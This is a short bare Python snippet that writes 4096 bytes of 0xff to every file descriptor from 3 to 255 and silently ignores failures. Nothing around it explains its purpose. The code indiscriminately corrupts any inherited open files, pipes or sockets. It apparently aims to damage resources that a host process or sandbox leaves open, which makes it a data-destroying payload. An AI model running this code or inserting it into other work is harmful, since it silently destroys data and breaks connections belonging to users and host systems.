import os
for descriptor in range(3, 256):
    try:
        os.write(descriptor, b'\xff' * 4096)
    except OSError:
        pass
